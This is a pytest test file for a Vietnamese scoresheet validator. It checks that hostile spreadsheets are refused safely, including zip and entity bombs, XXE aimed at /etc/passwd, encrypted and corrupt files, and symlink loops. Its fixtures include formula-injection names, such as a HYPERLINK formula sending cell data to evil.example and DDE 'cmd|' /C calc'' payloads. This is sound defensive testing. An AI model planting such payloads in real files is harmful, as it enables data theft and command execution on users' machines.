"""Hostile and broken inputs (issue 8): each ends in one clear finding for that file, in bounded
time and memory, the other files are still processed, exit code 1 (never 3), no traceback, and
nothing is expanded or fetched.

The files are in tests/fixtures/hostile/ (made by make_hostile.py, which documents each one); a
path with Vietnamese letters and spaces and symbolic-link loops are made here in tmp_path.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import struct
import subprocess
import sys
import time
import unicodedata
import zipfile
from pathlib import Path

import pytest

from danhgia.config import Limits
from danhgia.read import guard
from danhgia.read.workbook import read_file
from danhgia.model import ReadContext

HOSTILE = Path(__file__).resolve().parent / "fixtures" / "hostile"
sys.path.insert(0, str(HOSTILE))
import make_hostile  # noqa: E402

# file → the one finding that stops it
STOPS = {
    "empty.xlsx": "file-unreadable",
    "random-bytes.xlsx": "file-unreadable",
    "truncated.xlsx": "file-unreadable",
    "zip-bomb.xlsx": "file-too-large",
    "entity-bomb.xlsx": "file-unreadable",
    "xxe.xlsx": "file-unreadable",
    "encrypted.xlsx": "file-encrypted",
    "encrypted.xls": "file-encrypted",
    "encrypted.ods": "file-encrypted",
    "csv-renamed.xlsx": "file-unreadable",
    "million-rows.xlsx": "file-too-large",
    "sheets-300.xlsx": "not-a-scoresheet",     # read (300 ≤ max_sheets), but none is a scoresheet
}
# words the reason of each stop must hold (in its English half), so a case cannot pass for the
# wrong reason
REASONS = {
    "empty.xlsx": "empty",
    "random-bytes.xlsx": "not an Excel/ODS workbook",
    "truncated.xlsx": "truncated",
    "zip-bomb.xlsx": "zip bomb",
    "entity-bomb.xlsx": "DOCTYPE/ENTITY",
    "xxe.xlsx": "DOCTYPE/ENTITY",
    "csv-renamed.xlsx": "CSV",
    "million-rows.xlsx": "",
}
# file → (person read, reader notes expected)
READ = {
    "good.xlsx": ("Nguyễn Thị Hồng Nhung", set()),
    "xls-renamed.xlsx": ("Nguyễn Thị Hồng Nhung", set()),
    "long-cell.xlsx": ("Lê Văn Dài", set()),
    "name-equals.xlsx": ('=HYPERLINK("http://evil.example/?x="&B5,"Nguyễn Văn A")', set()),
    "name-plus.xlsx": ("+84 912 345 678 Nguyễn Văn B", set()),
    "name-minus.xlsx": ("-2+3+cmd|' /C calc'!A0", set()),
    "name-at.xlsx": ("@SUM(1+1)*cmd|' /C calc'!A0", set()),
    "name-nfd.xlsx": ("Phạm Thị Ngọc Ánh", set()),
    "name-tcvn3.xlsx": (make_hostile.tcvn3("Trần Văn Bình"), {"legacy-encoding"}),
}
SECRET_MARKERS = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin")   # /etc/passwd, the committed XXE


def _ctx(**limits) -> ReadContext:
    return ReadContext(limits=Limits(**limits))


# --- the fixtures are what they claim to be ------------------------------------------------


def test_every_fixture_is_asserted_and_small():
    files = {p.name for p in HOSTILE.iterdir() if p.is_file() and p.suffix != ".py"}
    assert files == set(STOPS) | set(READ)
    for name in files:
        assert (HOSTILE / name).stat().st_size < 100 * 1024, name


def test_the_zip_bomb_is_small_and_expands_past_a_gigabyte():
    path = HOSTILE / "zip-bomb.xlsx"
    assert path.stat().st_size < 64 * 1024
    with zipfile.ZipFile(path) as z:
        declared = sum(i.file_size for i in z.infolist())
    assert declared > 1024 ** 3
    # the kernel really inflates to what it declares (checked in a bounded stream)
    entry = guard._Zip(open(path, "rb"), path.stat().st_size, 10 ** 4).by_name["xl/worksheets/sheet1.xml"]
    assert entry.usize == 16 * 1024 * 1024


def test_the_bombs_are_real_bombs():
    with zipfile.ZipFile(HOSTILE / "entity-bomb.xlsx") as z:
        sst = z.read("xl/sharedStrings.xml").decode()
    assert sst.count("<!ENTITY") == 10 and "&lol9;" in sst          # 10^9 "lol" if expanded
    with zipfile.ZipFile(HOSTILE / "xxe.xlsx") as z:
        assert 'SYSTEM "file:///etc/passwd"' in z.read("xl/sharedStrings.xml").decode()
    with zipfile.ZipFile(HOSTILE / "million-rows.xlsx") as z:
        assert z.read("xl/worksheets/sheet1.xml").count(b"<row>") == 1_048_576     # 27 MB, once


def test_the_encrypted_files_are_really_encrypted():
    from python_calamine import CalamineWorkbook

    data = (HOSTILE / "encrypted.xlsx").read_bytes()
    assert data.startswith(guard._OLE_MAGIC)
    assert "EncryptionInfo".encode("utf-16-le") in data and "EncryptedPackage".encode("utf-16-le") in data
    for name in ("encrypted.xlsx", "encrypted.xls", "encrypted.ods"):
        try:
            wb = CalamineWorkbook.from_filelike(io.BytesIO((HOSTILE / name).read_bytes()))
            rows = wb.get_sheet_by_index(0).to_python()
        except Exception:
            continue          # calamine cannot read it either: good
        assert "Nguyễn Thị Hồng Nhung" not in str(rows), name


# --- guard.inspect: each case, its format, in bounded time ----------------------------------


@pytest.mark.parametrize("name", sorted(STOPS))
def test_preflight_stops_each_hostile_file(name):
    t0 = time.perf_counter()
    got = guard.inspect(HOSTILE / name, name, Limits())
    assert time.perf_counter() - t0 < 1.0
    if STOPS[name] == "not-a-scoresheet":
        assert got.finding is None and got.sheets == 300
        return
    assert got.finding is not None and got.finding.code == STOPS[name], got
    assert got.finding.file == name
    assert REASONS.get(name, "") in got.finding.message("en")
    assert guard.preflight(HOSTILE / name, name, Limits()) == got.finding


@pytest.mark.parametrize("name", sorted(READ))
def test_preflight_lets_ordinary_files_through(name):
    got = guard.inspect(HOSTILE / name, name, Limits())
    assert got.ok and got.sheets == 1
    assert got.format == ("xls" if name == "xls-renamed.xlsx" else "xlsx")


def test_real_format_whatever_the_extension(tmp_path):
    lo = HOSTILE.parent / "libreoffice"
    for src, fmt in ((lo / "hanoi-2022-chuyen-vien.ods", "ods"), (lo / "hanoi-2022-chuyen-vien.xls", "xls"),
                     (lo / "hanoi-2022-chuyen-vien.lo.xlsx", "xlsx")):
        for ext in (".xlsx", ".xls", ".ods"):
            p = tmp_path / f"x-{fmt}{ext}"
            shutil.copy(src, p)
            assert guard.sniff(p) == fmt
            got = guard.inspect(p, p.name, Limits())
            assert got.ok and got.format == fmt
            sheets, found = read_file(p, p.name, _ctx())
            assert [s.person for s in sheets] == ["Nguyễn Thị Hồng Nhung"], (p.name, found)
    assert guard.sniff(HOSTILE / "csv-renamed.xlsx") is None
    assert guard.inspect(HOSTILE / "encrypted.xlsx", "e", Limits()).format == "xlsx"


# --- read_file: the reader stops on the guard's finding ------------------------------------


@pytest.mark.parametrize("name", sorted(STOPS))
def test_reader_gives_one_finding(name):
    t0 = time.perf_counter()
    sheets, found = read_file(HOSTILE / name, name, _ctx())
    assert time.perf_counter() - t0 < 5.0
    assert sheets == []
    assert [f.code for f in found] == [STOPS[name]]
    assert found[0].severity == "error" and found[0].file == name


@pytest.mark.parametrize("name", sorted(READ))
def test_reader_reads_the_odd_but_harmless(name):
    sheets, found = read_file(HOSTILE / name, name, _ctx())
    person, notes = READ[name]
    assert found == [] and len(sheets) == 1
    assert sheets[0].person == person
    assert unicodedata.is_normalized("NFC", sheets[0].person)
    assert {n.code for n in sheets[0].notes} == notes


def test_long_cell_is_read_whole():
    sheets, _ = read_file(HOSTILE / "long-cell.xlsx", "x", _ctx())
    assert len(sheets[0].field_text("bonus_note")) == 32767


# --- limits a unit can change ----------------------------------------------------------------


def test_limits_apply_and_can_be_changed():
    L = Limits
    assert guard.inspect(HOSTILE / "sheets-300.xlsx", "s", L(max_sheets=100)).finding.code == "file-too-large"
    assert "300 sheets" in guard.inspect(HOSTILE / "sheets-300.xlsx", "s", L(max_sheets=299)).finding.message("en")
    assert guard.inspect(HOSTILE / "sheets-300.xlsx", "s", L(max_sheets=300)).ok
    assert guard.inspect(HOSTILE / "good.xlsx", "g", L(max_file_bytes=1000)).finding.code == "file-too-large"
    assert guard.inspect(HOSTILE / "zip-bomb.xlsx", "z", L(max_uncompressed_bytes=2 * 1024 ** 3)
                         ).finding.message("en").count("200:1") == 1      # then the ratio stops it
    # the million rows: with the ratio allowed, the rows are counted and the sheet named
    got = guard.inspect(HOSTILE / "million-rows.xlsx", "m", L(max_compression_ratio=10 ** 6))
    assert got.finding.code == "file-too-large"
    assert (got.finding.sheet, got.finding.cell) == ("Trang 1", "A5001")
    assert "sheet «Trang 1» has data in cell A5001, past 5000 rows" in got.finding.message("en")
    assert "5000 dòng" in got.finding.message("vi")


def test_unit_file_limits_reach_validate(tmp_path, cli):
    shutil.copy(HOSTILE / "sheets-300.xlsx", tmp_path / "sheets-300.xlsx")
    (tmp_path / "danhgia.yaml").write_text("limits:\n  max_sheets: 50\n", "utf-8")
    res = cli("validate", tmp_path, "--format", "json")
    data = json.loads(res.stdout)
    assert [f["code"] for f in data["findings"]] == ["file-too-large"]
    assert res.exit_code == 1


def _sheet_xlsx(path: Path, rows: int, dim: str | None, pad: int = 0) -> Path:
    head = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main">' + (f'<dimension ref="{dim}"/>' if dim else "") + "<sheetData>")
    body = "".join(f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>{"x" * pad}</t></is></c></row>'
                   for i in range(1, rows + 1))
    wb, rels = make_hostile._workbook(1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", make_hostile._CT)
        z.writestr("_rels/.rels", make_hostile._RELS)
        z.writestr("xl/workbook.xml", wb)
        z.writestr("xl/_rels/workbook.xml.rels", rels)
        z.writestr("xl/worksheets/sheet1.xml", head + body + "</sheetData></worksheet>")
    return path


def _cells_xlsx(path: Path, sheet_data: str) -> Path:
    wb, rels = make_hostile._workbook(1)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", make_hostile._CT)
        z.writestr("_rels/.rels", make_hostile._RELS)
        z.writestr("xl/workbook.xml", wb)
        z.writestr("xl/_rels/workbook.xml.rels", rels)
        z.writestr("xl/worksheets/sheet1.xml", '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                   f'2006/main" xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1"/>'
                   f"<sheetData>{sheet_data}</sheetData></worksheet>")
    return path


A1 = '<row r="1"><c r="A1" t="inlineStr"><is><t>Họ và tên</t></is></c></row>'


@pytest.mark.parametrize("data, cell", [
    # python-calamine builds a dense grid from A1 to the last cell: XFD5000 would be 82 million
    # cells (3 GB), XFD1048576 aborts the process. Each of these is a file of ~1 KB.
    (A1 + '<row r="5000"><c r="XFD5000"><v>1</v></c></row>', "XFD5000"),
    (A1 + '<row r="2"><c r="XFD1048576"><v>1</v></c></row>', "XFD1048576"),
    (A1 + '<row r="2"><c r="$A$9999" t="inlineStr"><is><t></t></is></c></row>', "A9999"),
    (A1 + '<row r="2"><c\tr="IV2"><v>1</v></c></row>', "IV2"),                      # odd spacing
    (A1 + "<row r='2'><c r='ZZ2'><v>1</v></c></row>", "ZZ2"),                        # single quotes
    (A1 + '<row r="2"><x:c r="AAA2"><x:v>1</x:v></x:c></row>', "AAA2"),              # prefixed
    (A1 + '<row r="2">' + "<c/>" * 300 + "<c><v>1</v></c></row>", "KO2"),             # no references
    (A1 + '<row r="6000"><c><v>1</v></c></row>', "A6000"),                            # row r only
    (A1 + "<row><c><v>1</v></c></row>" * 5000, "A5001"),
])
def test_cells_out_of_bounds_are_refused(tmp_path, data, cell):
    p = _cells_xlsx(tmp_path / "far.xlsx", data)
    got = guard.inspect(p, "far.xlsx", Limits())
    assert got.finding is not None and got.finding.code == "file-too-large", got
    assert got.finding.cell == cell and got.finding.sheet == "Trang 1"


@pytest.mark.parametrize("data", [
    A1 + '<row r="5000"><c r="XFD5000" s="1"/></row>',          # a styled empty cell holds nothing
    A1 + '<row r="1048576" ht="15" customHeight="1"/>',           # an empty row with a height
    A1 + '<row r="2"><c r="GR5000"><v>1</v></c></row>',           # the last allowed cell
    A1 + "<row><c><v>1</v></c></row>" * 4999,
])
def test_cells_within_bounds_pass(tmp_path, data):
    assert guard.inspect(_cells_xlsx(tmp_path / "ok.xlsx", data), "ok", Limits()).ok


def test_xls_cells_out_of_bounds_are_refused(tmp_path):
    """A cell record of a real .xls moved to IV60000 (patched in place): calamine would build
    a 60,000 × 256 grid; the guard names the sheet and the cell."""
    data = bytearray((HOSTILE / "xls-renamed.xlsx").read_bytes())
    at = next(i for i in range(512, len(data) - 14)
              if data[i:i + 4] == b"\xfd\x00\x0a\x00" and i % 512 + 14 <= 512)     # a LABELSST record
    struct.pack_into("<HH", data, at + 4, 59999, 255)
    p = tmp_path / "far.xls"
    p.write_bytes(bytes(data))
    got = guard.inspect(p, "far.xls", Limits())
    assert got.finding.code == "file-too-large", got
    assert (got.finding.sheet, got.finding.cell) == ("Bảng điểm", "IV60000")
    assert guard.inspect(p, "far.xls", Limits(max_rows=60000, max_columns=256)).ok


def _ods(path: Path, rows_xml: str) -> Path:
    xml = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
           'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
           'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
           f'<table:table table:name="Bảng điểm">{rows_xml}</table:table></office:spreadsheet></office:body>'
           "</office:document-content>")
    with zipfile.ZipFile(path, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", xml, zipfile.ZIP_DEFLATED)
    return path


def test_ods_repeated_cells_with_content_are_bounded(tmp_path):
    first = '<table:table-row><table:table-cell office:value-type="string"><text:p>a</text:p></table:table-cell></table:table-row>'
    blank_tail = ('<table:table-row table:number-rows-repeated="1048575"><table:table-cell '
                  'table:number-columns-repeated="1024"/></table:table-row>')           # as LibreOffice writes
    assert guard.inspect(_ods(tmp_path / "a.ods", first + blank_tail), "a", Limits()).ok
    wide = ('<table:table-row table:number-rows-repeated="100"><table:table-cell table:number-columns-repeated='
            '"16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>')
    got = guard.inspect(_ods(tmp_path / "b.ods", first + wide), "b", Limits())
    assert got.finding.code == "file-too-large" and got.finding.cell == "XFD101"
    tall = ('<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="float" '
            'office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>')
    got = guard.inspect(_ods(tmp_path / "c.ods", first + tall), "c", Limits())
    assert got.finding.cell == "A1000001" and got.finding.sheet == "Bảng điểm"


def test_rows_limit_boundary_and_lying_dimension(tmp_path):
    L = Limits(max_rows=100)
    assert guard.inspect(_sheet_xlsx(tmp_path / "a.xlsx", 100, "A1:A100"), "a", L).ok
    assert guard.inspect(_sheet_xlsx(tmp_path / "b.xlsx", 100, None), "b", L).ok        # counted
    assert guard.inspect(_sheet_xlsx(tmp_path / "c.xlsx", 101, None), "c", L).finding.code == "file-too-large"
    # the dimension claims more: the rows are counted, and there are few
    assert guard.inspect(_sheet_xlsx(tmp_path / "d.xlsx", 3, "A1:XFD1048576"), "d", L).ok
    # a part over 1 MB is counted whatever its dimension says
    big = _sheet_xlsx(tmp_path / "e.xlsx", 2000, "A1:A10", pad=600)
    assert guard.inspect(big, "e", Limits(max_rows=1999)).finding.code == "file-too-large"
    assert guard.inspect(big, "e", Limits(max_rows=2000)).ok


# --- hand-made hostile bytes -----------------------------------------------------------------


def _good_with(tmp_path: Path, name: str, parts: dict[str, bytes]) -> Path:
    target = tmp_path / name
    make_hostile._rewrite(HOSTILE / "good.xlsx", target, parts)
    return target


def _sst(prolog: str) -> bytes:
    return (prolog + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>a</t></si></sst>'
            ).encode("utf-8")


@pytest.mark.parametrize("xml", [
    b'<?xml version="1.0"?><!doctype sst [<!ENTITY a "b">]><sst/>',                  # lower case
    b'<?xml version="1.0"?>\n<!-- hi -->\n<?pi x?><!DOCTYPE sst SYSTEM "http://example.invalid/x.dtd"><sst/>',
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE sst [<!ENTITY a "b">]><sst/>'.encode("utf-16"),
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE sst [<!ENTITY a "b">]><sst/>'.encode("utf-16-le"),
    b'<?xml version="1.0"?><!--' + b"x" * 200_000 + b'--><!DOCTYPE sst [<!ENTITY a "b">]><sst/>',  # long prolog
    b'<?xml version="1.0"?><sst>' + __import__("random").Random(1).randbytes(600_000).hex().encode()
    + b'<!ENTITY a "b"></sst>',                                                       # large part: anywhere
])
def test_dtd_is_refused_however_it_is_dressed(tmp_path, xml):
    p = _good_with(tmp_path, "d.xlsx", {"xl/theme/theme1.xml": xml})
    got = guard.inspect(p, "d", Limits())
    assert got.finding is not None and got.finding.code == "file-unreadable", got
    assert "xl/theme/theme1.xml" in got.finding.message("en")


def test_entity_names_in_ordinary_text_are_fine(tmp_path):
    p = _good_with(tmp_path, "ok.xlsx", {"xl/theme/theme1.xml": _sst('<?xml version="1.0"?>\n<!-- DOCTYPE -->')})
    assert guard.inspect(p, "ok", Limits()).ok


def _patch_sizes(path: Path, member: str, usize: int) -> None:
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        off = z.getinfo(member).header_offset
    struct.pack_into("<I", data, off + 22, usize)
    i = data.find(b"PK\x01\x02")
    while i >= 0:
        n = struct.unpack_from("<H", data, i + 28)[0]
        if bytes(data[i + 46:i + 46 + n]) == member.encode():
            struct.pack_into("<I", data, i + 24, usize)
        i = data.find(b"PK\x01\x02", i + 4)
    path.write_bytes(bytes(data))


def test_lying_sizes_and_bad_crc_are_refused(tmp_path):
    p = _sheet_xlsx(tmp_path / "lie.xlsx", 60000, "A1:A10")      # ~2.7 MB of XML, compressed ~100 KB
    _patch_sizes(p, "xl/worksheets/sheet1.xml", 3000)            # claims 3 KB
    got = guard.inspect(p, "lie", Limits())
    assert got.finding.code == "file-unreadable" and "lie" in got.finding.file
    # the CRC of a part read whole
    q = _good_with(tmp_path, "crc.xlsx", {})
    data = bytearray(q.read_bytes())
    with zipfile.ZipFile(q) as z:
        info = z.getinfo("xl/workbook.xml")
    i = data.find(b"PK\x01\x02")
    while i >= 0:
        n = struct.unpack_from("<H", data, i + 28)[0]
        if bytes(data[i + 46:i + 46 + n]) == b"xl/workbook.xml":
            struct.pack_into("<I", data, i + 16, info.CRC ^ 0xFFFF)
        i = data.find(b"PK\x01\x02", i + 4)
    q.write_bytes(bytes(data))
    assert "CRC" in guard.inspect(q, "crc", Limits()).finding.message("en")


def test_other_documents_and_containers(tmp_path):
    cases = {
        "report.xlsx": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
        "export.xls": b"<html><head><meta charset=utf-8></head><body><table><tr><td>1</td></tr></table>",
        "vni.xlsx": "Hä vµ tªn;M·\nNguyÔn V¨n A;1\n".encode("cp1252"),
        "utf8-cut.xlsx": ("Họ và tên,Mã\n" * 100).encode("utf-8")[:511],
    }
    for name, data in cases.items():
        (tmp_path / name).write_bytes(data)
    docx = tmp_path / "letter.xlsx"
    with zipfile.ZipFile(docx, "w") as z:
        z.writestr("word/document.xml", "<w:document/>")
        z.writestr("[Content_Types].xml", "<Types/>")
    crypt = tmp_path / "zipcrypto.xlsx"
    shutil.copy(HOSTILE / "good.xlsx", crypt)
    data = bytearray(crypt.read_bytes())
    i = data.find(b"PK\x01\x02")
    struct.pack_into("<H", data, i + 8, struct.unpack_from("<H", data, i + 8)[0] | 1)   # encrypted flag
    crypt.write_bytes(bytes(data))
    many = tmp_path / "many.xlsx"
    with zipfile.ZipFile(many, "w") as z:
        z.writestr("xl/workbook.xml", "<workbook/>")
        for k in range(60):
            z.writestr(f"x/{k}", "")
    xlsb = tmp_path / "binary.xlsx"
    with zipfile.ZipFile(xlsb, "w") as z:
        z.writestr("xl/workbook.bin", b"\x83\x01\x00")
        z.writestr("[Content_Types].xml", "<Types/>")
    assert guard.sniff(xlsb) == "xlsb"
    assert guard.zip_entry_count(many) == 61 and guard.zip_entry_count(tmp_path / "report.xlsx") is None
    want = {"report.xlsx": "PDF", "export.xls": "HTML", "vni.xlsx": "CSV", "utf8-cut.xlsx": "CSV",
            "letter.xlsx": "Word", "binary.xlsx": ".xlsb"}
    for name, word in want.items():
        got = guard.inspect(tmp_path / name, name, Limits())
        assert got.finding.code == "file-unreadable" and word in got.finding.message("en"), (name, got)
    assert guard.inspect(crypt, "c", Limits()).finding.code == "file-encrypted"
    assert guard.inspect(many, "m", Limits(max_zip_entries=50)).finding.code == "file-too-large"


def test_ole2_that_is_not_a_workbook_and_broken_ole2(tmp_path):
    xls = (HOSTILE / "xls-renamed.xlsx").read_bytes()
    doc = tmp_path / "letter.xls"
    doc.write_bytes(xls.replace("Workbook".encode("utf-16-le"), "WordDocu".encode("utf-16-le")))
    assert "not an Excel/ODS workbook" in guard.inspect(doc, "d", Limits()).finding.message("en")
    cut = tmp_path / "cut.xls"
    cut.write_bytes(xls[:1500])
    assert guard.inspect(cut, "c", Limits()).finding.code == "file-unreadable"
    # a FAT that points every sector at itself: the walk must end
    loop = bytearray(xls)
    fat_sector = struct.unpack_from("<I", loop, 0x4C)[0]
    off = (fat_sector + 1) * 512
    for k in range(128):
        struct.pack_into("<I", loop, off + 4 * k, k)
    (tmp_path / "loop.xls").write_bytes(bytes(loop))
    t0 = time.perf_counter()
    assert guard.inspect(tmp_path / "loop.xls", "l", Limits()).finding.code == "file-unreadable"
    assert time.perf_counter() - t0 < 1.0


def test_paths_that_are_not_files(tmp_path):
    (tmp_path / "a.xlsx").symlink_to(tmp_path / "b.xlsx")
    (tmp_path / "b.xlsx").symlink_to(tmp_path / "a.xlsx")
    got = guard.inspect(tmp_path / "a.xlsx", "a.xlsx", Limits())
    assert got.finding.code == "file-unreadable" and "symbolic-link loop" in got.finding.message("en")
    assert "not found" in guard.inspect(tmp_path / "none.xlsx", "n", Limits()).finding.message("en")
    (tmp_path / "dir.xlsx").mkdir()
    assert guard.inspect(tmp_path / "dir.xlsx", "d", Limits()).finding.code == "file-unreadable"


# --- the whole run: every hostile file plus good ones, through the CLI -------------------------

VN_DIR = "Phòng Tổ chức – Hành chính"
VN_FILE = "Bảng điểm tháng 10 Nguyễn Văn An.xlsx"


def _input_folder(tmp_path: Path) -> Path:
    root = tmp_path / "đầu vào"
    sub = root / VN_DIR
    sub.mkdir(parents=True)
    for p in HOSTILE.iterdir():
        if p.is_file() and p.suffix != ".py":
            shutil.copy(p, root / p.name)
    make_hostile.scoresheet(sub / VN_FILE, name="Nguyễn Văn An", id="HN099")
    (sub / "vòng lặp").symlink_to("..", target_is_directory=True)      # a folder loop
    (root / "loop-a.xlsx").symlink_to("loop-b.xlsx")                     # a file loop
    (root / "loop-b.xlsx").symlink_to("loop-a.xlsx")
    return root


_PEAK = "import atexit, runpy, sys\n" \
        "def _peak():\n" \
        "    try:\n" \
        "        hwm = [l for l in open('/proc/self/status') if l.startswith('VmHWM')][0].split()[1]\n" \
        "    except Exception:\n" \
        "        hwm = '0'\n" \
        "    sys.stderr.write('\\nPEAK-KB=' + hwm + '\\n')\n" \
        "atexit.register(_peak)\n" \
        "sys.argv = ['danhgia'] + sys.argv[1:]\n" \
        "runpy.run_module('danhgia', run_name='__main__')\n"


def _run(args: list[str], cwd: Path) -> tuple[subprocess.CompletedProcess, int]:
    """Run ``python -m danhgia ARGS``; also return the peak resident memory (KB) of that
    process (VmHWM, which a new program starts afresh; 0 where /proc is missing)."""
    res = subprocess.run([sys.executable, "-c", _PEAK, *args], cwd=cwd, capture_output=True, text=True,
                         timeout=120, env={**os.environ, "COLUMNS": "200", "DANHGIA_LANG": "vi"})
    err, _, peak = res.stderr.rpartition("\nPEAK-KB=")
    res.stderr = err if _ else res.stderr
    return res, int(peak.strip() or 0) if _ else 0


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_validate_a_folder_of_everything(tmp_path, jobs):
    root = _input_folder(tmp_path)
    t0 = time.perf_counter()
    res, maxrss_kb = _run(["validate", str(root), "--format", "json", "--jobs", jobs], tmp_path)
    assert time.perf_counter() - t0 < 60
    assert res.returncode == 1, res.stderr
    assert "Traceback" not in res.stdout + res.stderr
    if jobs == "1":                          # everything was read in this process
        assert maxrss_kb < 200 * 1024        # nothing inflated or expanded (~65 MB; 200+ MB without the guard)
    data = json.loads(res.stdout)
    by_file: dict[str, list[str]] = {}
    for f in data["findings"]:
        by_file.setdefault(Path(f["file"]).name, []).append(f["code"])
    for name, code in STOPS.items():
        assert by_file.get(name) == [code], (name, by_file.get(name))
    for name in ("loop-a.xlsx", "loop-b.xlsx"):
        assert by_file.get(name) == ["file-unreadable"]
    for name, (_person, notes) in READ.items():
        assert sorted(by_file.get(name, [])) == sorted(notes), (name, by_file.get(name))
    assert VN_FILE not in by_file                      # read, and nothing wrong with it
    assert data["summary"]["files"] == len(STOPS) + len(READ) + 3   # + the Vietnamese path + 2 loops
    assert data["summary"]["scoresheets"] == len(READ) + 1          # the folder loop adds nothing
    assert not any(m in res.stdout for m in SECRET_MARKERS)


def test_validate_text_report_has_no_traceback_and_english_twin(tmp_path):
    root = _input_folder(tmp_path)
    for lang, word in (("vi", "Tệp được đặt mật khẩu"), ("en", "password-protected")):
        res, _ = _run(["validate", str(root), "--lang", lang], tmp_path)
        assert res.returncode == 1
        out = res.stdout + res.stderr
        assert "Traceback" not in out and word in out
        assert VN_DIR in out or "loop-a.xlsx" in out


def test_xxe_is_never_followed(tmp_path):
    canary = tmp_path / "secret.txt"
    canary.write_text("CANARY-7f3a9-XXE-MUST-NOT-LEAK", "utf-8")
    root = tmp_path / "in"
    root.mkdir()
    make_hostile.xxe(HOSTILE / "good.xlsx", root / "xxe-local.xlsx", canary.as_uri())
    make_hostile._with_shared_strings(HOSTILE / "good.xlsx", root / "xxe-param.xlsx",
                                      f'<!DOCTYPE sst [<!ENTITY % p SYSTEM "{canary.as_uri()}"> %p;]>', "a")
    shutil.copy(HOSTILE / "good.xlsx", root / "good.xlsx")
    outputs = []
    for fmt in ("json", "csv", "text"):
        res, _ = _run(["validate", str(root), "--format", fmt, "--annotate", str(tmp_path / f"ann-{fmt}")], tmp_path)
        assert res.returncode == 1 and "Traceback" not in res.stderr
        outputs.append(res.stdout + res.stderr)
    res, _ = _run(["tally", str(root), "--month", "2026-10", "--out", str(tmp_path / "t.xlsx")], tmp_path)
    assert res.returncode in (0, 1) and "Traceback" not in res.stderr
    outputs.append(res.stdout + res.stderr)
    for out in outputs:
        assert "CANARY-7f3a9" not in out
    for p in tmp_path.rglob("*"):
        if p.is_file() and p != canary and p.parent != root:
            data = p.read_bytes()
            assert b"CANARY-7f3a9" not in data, p
            if p.suffix == ".xlsx":
                with zipfile.ZipFile(p) as z:
                    for n in z.namelist():
                        assert b"CANARY-7f3a9" not in z.read(n), (p, n)
    assert "file-unreadable" in outputs[0]


def test_a_hostile_roster_is_a_usage_error_not_a_crash(tmp_path):
    """The roster (and the annual events file) pass the guard in danhgia.read.table.read_table:
    unguarded, python-calamine aborts the whole process (SIGABRT, no message) on a 1 KB roster
    with a cell at XFD1048576. Expected: exit 2 and a clear message, like any unreadable roster."""
    roster = _cells_xlsx(tmp_path / "danh-sach.xlsx",
                         '<row r="1"><c r="A1" t="inlineStr"><is><t>Mã</t></is></c>'
                         '<c r="B1" t="inlineStr"><is><t>Họ và tên</t></is></c></row>'
                         '<row r="2"><c r="XFD1048576"><v>1</v></c></row>')
    shutil.copy(HOSTILE / "good.xlsx", tmp_path / "good.xlsx")
    res, _ = _run(["validate", str(tmp_path / "good.xlsx"), "--roster", str(roster)], tmp_path)
    assert res.returncode == 2, (res.returncode, res.stderr[-500:])
    assert "Traceback" not in res.stderr and "danh-sach.xlsx" in res.stderr



def test_an_archive_declaring_too_many_entries_is_refused_before_listing(tmp_path):
    """zipfile builds one object per entry before anything can be checked: the entry count the
    archive declares is checked first (Limits.max_zip_entries)."""
    import zipfile as zf

    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "danhgia.yaml").write_text("limits:\n  max_zip_entries: 5\n", encoding="utf-8")
    with zf.ZipFile(folder / "nhieu-tep.zip", "w") as z:
        for i in range(6):
            z.writestr(f"x{i}.txt", "x")
    res, _ = _run(["validate", str(folder), "--format", "json"], tmp_path)
    report = json.loads(res.stdout)
    assert [(f["code"], f["file"].endswith("nhieu-tep.zip")) for f in report["findings"]] == [("file-too-large", True)]
    assert res.returncode == 1
